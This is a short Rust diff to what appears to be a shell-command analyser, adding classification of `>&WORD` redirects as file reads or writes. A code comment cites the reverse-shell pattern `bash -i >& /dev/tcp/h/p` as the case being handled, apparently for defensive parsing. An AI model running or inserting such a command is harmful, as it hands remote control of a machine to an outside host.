@@ -383,6 +383,24 @@ fn redirect(r: &ast::IoRedirect) -> Redirect {
                         script: Box::new(list(&sub.list)),
                     };
                 }
+                // `>&WORD` where WORD is not a descriptor sends both outputs to the file WORD
+                // (`bash -i >& /dev/tcp/h/p`).
+                ast::IoFileRedirectTarget::Duplicate(w)
+                    if !w
+                        .value
+                        .trim_end_matches('-')
+                        .chars()
+                        .all(|c| c.is_ascii_digit()) =>
+                {
+                    let target = word(&w.value);
+                    return match kind {
+                        ast::IoFileRedirectKind::DuplicateInput => Redirect::Read {
+                            fd: fd.unwrap_or(0),
+                            target,
+                        },
+                        _ => Redirect::Write { target },
+                    };
+                }
                 ast::IoFileRedirectTarget::Fd(_) | ast::IoFileRedirectTarget::Duplicate(_) => {
                     return Redirect::Other;
                 }
